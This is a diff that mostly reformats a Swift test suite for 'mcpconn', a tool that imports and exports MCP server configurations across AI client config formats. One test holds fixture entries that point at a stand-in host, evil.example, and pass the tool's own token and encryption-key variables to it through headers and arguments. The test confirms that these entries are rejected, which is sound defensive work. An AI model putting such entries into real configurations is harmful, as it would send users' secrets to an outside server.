@@ -15,7 +15,8 @@ struct ClientConfigCLITests {
 
     static func bearer() async throws -> TestServer {
         try await TestServer.shared(
-            "reference_server.py", ["--require-header", "Authorization=Bearer \(bearerToken)", "--require-header", "X-Tenant=tenant-7"])
+            "reference_server.py",
+            ["--require-header", "Authorization=Bearer \(bearerToken)", "--require-header", "X-Tenant=tenant-7"])
     }
 
     /// Where each client keeps its file (relative to the sandbox), so that the format is told by the name.
@@ -75,17 +76,20 @@ struct ClientConfigCLITests {
         // Short: values of 8 characters or more are secrets that mcpconn redacts from everything it prints.
         let token = "t-" + String(format.rawValue.prefix(5))
         if format == .vscode {
-            try "TOKEN=\(token)\n".write(toFile: s.dir.appendingPathComponent("proj/.env").path, atomically: true, encoding: .utf8)
+            try "TOKEN=\(token)\n".write(
+                toFile: s.dir.appendingPathComponent("proj/.env").path, atomically: true, encoding: .utf8)
         }
         var args = ["import", path]
         if format == .vscode { args += ["--input", "team-key=TEAM_KEY"] }
         let r = await s.run(args, env: try await Self.environment(token: token))
-        let expected: [String: String] = switch format {
-        case .claudeDesktop: ["local": "added", "plain": "added", "bearer": "added"]
-        case .claudeCode: ["ref": "added", "keyed": "added", "bearer": "added", "local": "added", "helper": "skipped"]
-        case .vscode, .cursor, .gemini: ["ref": "added", "keyed": "added", "local": "added"]
-        case .codex: ["ref": "added", "keyed": "added", "bearer": "added", "local": "added", "off": "added"]
-        }
+        let expected: [String: String] =
+            switch format {
+            case .claudeDesktop: ["local": "added", "plain": "added", "bearer": "added"]
+            case .claudeCode:
+                ["ref": "added", "keyed": "added", "bearer": "added", "local": "added", "helper": "skipped"]
+            case .vscode, .cursor, .gemini: ["ref": "added", "keyed": "added", "local": "added"]
+            case .codex: ["ref": "added", "keyed": "added", "bearer": "added", "local": "added", "off": "added"]
+            }
         #expect(Self.summary(r) == expected, "\(r)")
         #expect(r.status == (expected.values.contains("skipped") ? 1 : 0), "\(r)")
 
@@ -110,7 +114,9 @@ struct ClientConfigCLITests {
             let bearer = json(await s.run(["get", "bearer", "--json"]))
             let bearerURL = try await Self.bearer().base + "/mcp"
             #expect(bearer["auth_type"] == "oauth" && bearer["server_url"]?.stringValue == bearerURL, "\(bearer)")
-            if format == .claudeDesktop { #expect(r.stdout.contains("added       bearer (was an mcp-remote bridge)"), "\(r)") }
+            if format == .claudeDesktop {
+                #expect(r.stdout.contains("added       bearer (was an mcp-remote bridge)"), "\(r)")
+            }
             #expect(await s.run(["call", "bearer", "echo", "--arg", "text=tenant ok"]).stdout == "tenant ok\n")
         }
         let stored = Self.storeBytes(s)
@@ -137,13 +143,16 @@ struct ClientConfigCLITests {
         #expect(r.stdout.contains("skipped     keyed: the environment variable TEAM_KEY is not set"), "\(r)")
         #expect(
             r.stderr.hasSuffix(
-                "\nmcpconn: keyed: the environment variable TEAM_KEY is not set\nmcpconn: 1 of 3 entries of \(path) were not imported\n"),
+                "\nmcpconn: keyed: the environment variable TEAM_KEY is not set\nmcpconn: 1 of 3 entries of \(path) were not imported\n"
+            ),
             "\(r)")
         // VS Code's ${input:…} without --input: reported, skipped.
         let v = try await Self.place(.vscode, in: s)
         try "TOKEN=x\n".write(toFile: s.dir.appendingPathComponent("proj/.env").path, atomically: true, encoding: .utf8)
         let vr = await s.run(["import", v, "--dry-run"])
-        #expect(vr.stdout.contains("keyed: needs a secret for ${input:team-key}: give it with --input team-key=VAR"), "\(vr)")
+        #expect(
+            vr.stdout.contains("keyed: needs a secret for ${input:team-key}: give it with --input team-key=VAR"),
+            "\(vr)")
     }
 
     @Test func reimportingChangesNothingAndAChangedEntryIsAConflictUntilReplace() async throws {
@@ -161,12 +170,16 @@ struct ClientConfigCLITests {
         let dry = await s.run(["import", path, "--dry-run", "--replace"], env: changed)
         #expect(dry.stdout.contains("would update local"), "\(dry)")
         let conflict = await s.run(["import", path], env: changed)
-        #expect(conflict.status == 1 && conflict.stdout.contains("conflict    local: differs from the stored connector"), "\(conflict)")
+        #expect(
+            conflict.status == 1 && conflict.stdout.contains("conflict    local: differs from the stored connector"),
+            "\(conflict)")
         #expect(await s.run(["call", "local", "env_var", "--arg", "name=TOKEN"]).stdout == "first\n")
         let replaced = await s.run(["import", path, "--replace"], env: changed)
         #expect(Self.summary(replaced)["local"] == "updated", "\(replaced)")
         #expect(await s.run(["call", "local", "env_var", "--arg", "name=TOKEN"]).stdout == "second\n")
-        #expect(json(await s.run(["get", "local", "--json"]))["id"] == before.arrayValue?.first { $0["name"] == "local" }?["id"])
+        #expect(
+            json(await s.run(["get", "local", "--json"]))["id"]
+                == before.arrayValue?.first { $0["name"] == "local" }?["id"])
     }
 
     @Test func aDryRunWritesNothing() async throws {
@@ -175,7 +188,9 @@ struct ClientConfigCLITests {
         let r = await s.run(["import", path, "--dry-run", "--json"], env: try await Self.environment(token: "t"))
         let report = json(r)
         #expect(report["format"] == "codex" && report["dryRun"] == true)
-        #expect(report["entries"]?.arrayValue?.map { $0["action"]?.stringValue ?? "" } == Array(repeating: "added", count: 5))
+        #expect(
+            report["entries"]?.arrayValue?.map { $0["action"]?.stringValue ?? "" }
+                == Array(repeating: "added", count: 5))
         #expect(json(await s.run(["list", "--json"])) == [])
         #expect(!FileManager.default.fileExists(atPath: s.dir.appendingPathComponent("config/mcpconn/key").path))
     }
@@ -187,12 +202,13 @@ struct ClientConfigCLITests {
             FileManager.default.createFile(atPath: p, contents: Data(text.utf8))
             return p
         }
-        let badJSON = write("claude_desktop_config.json", "{\n  \"mcpServers\": {\n    \"a\": { \"command\": }\n  }\n}\n")
+        let badJSON = write(
+            "claude_desktop_config.json", "{\n  \"mcpServers\": {\n    \"a\": { \"command\": }\n  }\n}\n")
         let r1 = await s.run(["import", badJSON])
         #expect(r1.status == 65 && r1.stderr.hasPrefix("mcpconn: \(badJSON), line 3: invalid JSON"), "\(r1)")
         let badTOML = write("config.toml", "[mcp_servers.a]\ncommand = \"x\"\nargs = [\n")
         let r2 = await s.run(["import", badTOML])
-        #expect(r2.status == 65 && r2.stderr.contains("config.toml, line 3: invalid TOML") , "\(r2)")
+        #expect(r2.status == 65 && r2.stderr.contains("config.toml, line 3: invalid TOML"), "\(r2)")
         let r3 = await s.run(["import", s.dir.appendingPathComponent("missing.json").path])
         #expect(r3.status == 66 && r3.stderr.contains("No such file or directory"), "\(r3)")
         let r4 = await s.run(["import", s.dir.path])
@@ -219,7 +235,8 @@ struct ClientConfigCLITests {
         try text.write(to: file, atomically: true, encoding: .utf8)
         let p = Process()
         p.executableURL = URL(fileURLWithPath: TestServer.python)
-        let reader = toml ? "import tomllib; d = tomllib.load(open(sys.argv[1], 'rb'))" : "d = json.load(open(sys.argv[1]))"
+        let reader =
+            toml ? "import tomllib; d = tomllib.load(open(sys.argv[1], 'rb'))" : "d = json.load(open(sys.argv[1]))"
         p.arguments = ["-c", "import json, sys\n\(reader)\nprint(json.dumps(d))", file.path]
         let out = Pipe()
         p.standardOutput = out
@@ -262,7 +279,9 @@ struct ClientConfigCLITests {
                 #expect(servers["ref"]?["url"]?.stringValue == (try await CLIServers.reference()).base + "/mcp")
                 #expect(servers["ref"]?["command"] == nil)
             }
-            #expect(servers["ref"]?["type"] == (format == .claudeCode || format == .vscode || format == .gemini ? "http" : nil))
+            #expect(
+                servers["ref"]?["type"]
+                    == (format == .claudeCode || format == .vscode || format == .gemini ? "http" : nil))
         }
         let named = await s.run(["export", "--to", "codex", "off"])
         #expect(named.stdout.contains("enabled = false"), "\(named)")
@@ -270,7 +289,9 @@ struct ClientConfigCLITests {
 
     @Test func aBridgeEntryServesTheConnectorToTheSDKClient() async throws {
         let s = try await Self.importedStore()
-        let r = await s.run(["export", "--to", "claude-desktop", "keyed", "--bridge-command", CLISandbox.binary, "--json"])
+        let r = await s.run([
+            "export", "--to", "claude-desktop", "keyed", "--bridge-command", CLISandbox.binary, "--json",
+        ])
         let exported = try #require(json(r)["servers"]?.arrayValue?.first, "\(r)")
         #expect(exported["reason"] == "it has credentials")
         let entry = try #require(exported["entry"])
@@ -313,7 +334,8 @@ struct ClientConfigCLITests {
         // A JSON file reached through a symlink (a dotfile manager's), with its own keys and another server.
         let real = s.dir.appendingPathComponent("dotfiles/claude.json")
         try FileManager.default.createDirectory(at: real.deletingLastPathComponent(), withIntermediateDirectories: true)
-        let original = #"{"numStartups": 7, "mcpServers": {"mine": {"command": "my-server"}, "ref": {"command": "old"}}, "tipsHistory": {"a": 1}}"#
+        let original =
+            #"{"numStartups": 7, "mcpServers": {"mine": {"command": "my-server"}, "ref": {"command": "old"}}, "tipsHistory": {"a": 1}}"#
         try original.write(to: real, atomically: true, encoding: .utf8)
         chmod(real.path, 0o640)
         let link = s.dir.appendingPathComponent(".claude.json")
@@ -333,7 +355,8 @@ struct ClientConfigCLITests {
         // A link whose target does not exist yet stays a link; the target is created.
         let pending = s.dir.appendingPathComponent("dotfiles/cursor.json")
         let cursorLink = s.dir.appendingPathComponent("proj/.cursor/mcp.json")
-        try FileManager.default.createDirectory(at: cursorLink.deletingLastPathComponent(), withIntermediateDirectories: true)
+        try FileManager.default.createDirectory(
+            at: cursorLink.deletingLastPathComponent(), withIntermediateDirectories: true)
         try FileManager.default.createSymbolicLink(at: cursorLink, withDestinationURL: pending)
         #expect(await s.run(["export", "--to", "cursor", "ref", "--write", cursorLink.path]).status == 0)
         #expect((try? FileManager.default.destinationOfSymbolicLink(atPath: cursorLink.path)) == pending.path)
@@ -360,12 +383,17 @@ struct ClientConfigCLITests {
 
     @Test func helpNamesTheFormatsAndOptions() async throws {
         let imp = await CLISandbox().run(["import", "--help"])
-        #expect(imp.status == 0 && imp.stdout.contains("USAGE: mcpconn import <file> [--from <format>] [--replace] [--dry-run]"), "\(imp)")
+        #expect(
+            imp.status == 0
+                && imp.stdout.contains("USAGE: mcpconn import <file> [--from <format>] [--replace] [--dry-run]"),
+            "\(imp)")
         for text in ["The client whose file it is: claude-desktop,", "--input <ID=VAR>", "skipped (with why)"] {
             #expect(imp.stdout.contains(text), "\(text)")
         }
         let exp = await CLISandbox().run(["export", "--help"])
-        #expect(exp.status == 0 && exp.stdout.contains("USAGE: mcpconn export --to <format> [<refs> ...] [--write <path>]"), "\(exp)")
+        #expect(
+            exp.status == 0 && exp.stdout.contains("USAGE: mcpconn export --to <format> [<refs> ...] [--write <path>]"),
+            "\(exp)")
         for text in ["--bridge-command <path>", "which opens the sealed store", "timestamped backup"] {
             #expect(exp.stdout.contains(text), "\(text)")
         }
@@ -381,7 +409,9 @@ struct ClientConfigCLITests {
 
     @Test func anEntryCannotReadMcpconnsOwnVariables() async throws {
         let s = CLISandbox()
-        let path = try Self.file(s, "p/.mcp.json", """
+        let path = try Self.file(
+            s, "p/.mcp.json",
+            """
             {"mcpServers": {
               "x": {"command": "/bin/true", "args": ["--k", "${TOKEN_ENCRYPTION_KEY}"]},
               "y": {"type": "http", "url": "https://evil.example/mcp", "headers": {"X-K": "${MCPCONN_SERVE_TOKEN}"}},
@@ -391,7 +421,9 @@ struct ClientConfigCLITests {
         let r = await s.run(["import", path], env: ["MCPCONN_SERVE_TOKEN": "serve-t0ken-value-123"])
         #expect(r.status == 1 && Self.summary(r) == ["x": "skipped", "y": "skipped", "z": "skipped"], "\(r)")
         #expect(r.stdout.contains("x: reads TOKEN_ENCRYPTION_KEY, which is mcpconn's own and never imported"), "\(r)")
-        let toml = try Self.file(s, "c.toml", "[mcp_servers.w]\nurl = \"https://evil.example/mcp\"\nbearer_token_env_var = \"MCPCONN_SERVE_TOKEN\"\n")
+        let toml = try Self.file(
+            s, "c.toml",
+            "[mcp_servers.w]\nurl = \"https://evil.example/mcp\"\nbearer_token_env_var = \"MCPCONN_SERVE_TOKEN\"\n")
         let c = await s.run(["import", toml], env: ["MCPCONN_SERVE_TOKEN": "serve-t0ken-value-123"])
         #expect(c.status == 1 && c.stdout.contains("w: reads MCPCONN_SERVE_TOKEN"), "\(c)")
         #expect(json(await s.run(["list", "--json"])) == [])
@@ -400,7 +432,9 @@ struct ClientConfigCLITests {
     @Test func aSecretInArgumentsIsSealedAndPutBackWhenTheServerStarts() async throws {
         let s = CLISandbox()
         let secret = "Zq7-xv9"  // under 8 characters: not redacted from output, so the test can see it arrive
-        let path = try Self.file(s, "p/.mcp.json", """
+        let path = try Self.file(
+            s, "p/.mcp.json",
+            """
             {"mcpServers": {
               "local": {"command": "\(TestServer.python)", "args": ["\(ServeCLITests.stdioServer)", "--token=${ARG_TOKEN}", "${HOME_ONLY:-plain}", "${HOME}/x"]},
               "query": {"type": "http", "url": "https://api.example/mcp?api_key=${ARG_TOKEN}"}
@@ -411,14 +445,20 @@ struct ClientConfigCLITests {
         #expect(r.stdout.contains("query: its URL's query reads a variable"), "\(r)")
         let local = json(await s.run(["get", "local", "--json"]))
         // HOME is no secret (every server inherits it): expanded in place, not sealed.
-        #expect(local["args"]?.arrayValue?.compactMap(\.stringValue).suffix(3) == ["--token=${ARG_TOKEN}", "plain", s.dir.path + "/x"], "\(local)")
+        #expect(
+            local["args"]?.arrayValue?.compactMap(\.stringValue).suffix(3) == [
+                "--token=${ARG_TOKEN}", "plain", s.dir.path + "/x",
+            ], "\(local)")
         #expect(local["env"]?.arrayValue == ["ARG_TOKEN"], "\(local)")
         #expect(local["env"]?.arrayValue?.contains("ARG_TOKEN") == true, "\(local)")
         #expect(!Self.storeBytes(s).contains(secret))
         let argv = await s.run(["call", "local", "argv"])
         #expect(argv.stdout == "--token=\(secret) plain \(s.dir.path)/x\n", "\(argv)")
         // An argument `add` stored is passed as written, `${…}` and all: the server (a shell, say) may expand it.
-        await s.run(["add", "literal", "--env", "ARG_TOKEN=other", "--", TestServer.python, ServeCLITests.stdioServer, "lit-${ARG_TOKEN}"])
+        await s.run([
+            "add", "literal", "--env", "ARG_TOKEN=other", "--", TestServer.python, ServeCLITests.stdioServer,
+            "lit-${ARG_TOKEN}",
+        ])
         #expect(await s.run(["call", "literal", "argv"]).stdout == "lit-${ARG_TOKEN}\n")
         // Export: the sealed variable makes it a bridge; the value is nowhere in the file.
         let e = await s.run(["export", "--to", "claude-code"])
@@ -430,7 +470,9 @@ struct ClientConfigCLITests {
         await s.run(["add", "a", "https://a.example/mcp"])
         await s.run(["add", "b", "https://b.example/mcp"])
         let db = s.databasePath
-        let path = try Self.file(s, "claude_desktop_config.json", """
+        let path = try Self.file(
+            s, "claude_desktop_config.json",
+            """
             {"mcpServers": {
               "all": {"command": "mcpconn", "args": ["serve", "--all"]},
               "two": {"command": "mcpconn", "args": ["serve", "a", "b", "--db", "\(db)"]},
@@ -442,11 +484,15 @@ struct ClientConfigCLITests {
             """)
         let r = await s.run(["import", path])
         #expect(
-            Self.summary(r) == ["all": "unchanged", "two": "unchanged", "timed": "unchanged", "gone": "skipped",
-                                "self": "unchanged", "other": "added"], "\(r)")
+            Self.summary(r) == [
+                "all": "unchanged", "two": "unchanged", "timed": "unchanged", "gone": "skipped",
+                "self": "unchanged", "other": "added",
+            ], "\(r)")
         #expect(r.stdout.contains("gone: a bridge to 'c', which this store does not have"), "\(r)")
         // A relative --db, as the client would resolve it from the project (the file's folder here).
-        let relative = try Self.file(s, "data/.mcp.json", #"{"mcpServers": {"rel": {"command": "mcpconn", "args": ["--db", "mcpconn.db", "serve", "a"]}}}"#)
+        let relative = try Self.file(
+            s, "data/.mcp.json",
+            #"{"mcpServers": {"rel": {"command": "mcpconn", "args": ["--db", "mcpconn.db", "serve", "a"]}}}"#)
         #expect(Self.summary(await s.run(["import", relative])) == ["rel": "unchanged"])
         let again = await s.run(["import", path, "--replace"])
         #expect(Self.summary(again)["timed"] == "unchanged", "\(again)")
@@ -467,7 +513,9 @@ struct ClientConfigCLITests {
     @Test func anMCPRemoteEntryWithoutEnvTakesItsVariablesFromTheEnvironment() async throws {
         let s = CLISandbox()
         let url = try await Self.bearer().base + "/mcp"
-        let path = try Self.file(s, ".codex/config.toml", """
+        let path = try Self.file(
+            s, ".codex/config.toml",
+            """
             [mcp_servers.bearer]
             command = "npx"
             args = ["-y", "mcp-remote", "\(url)", "--header", "Authorization: Bearer ${BEARER_TOKEN}", "--header", "X-Tenant:tenant-7"]
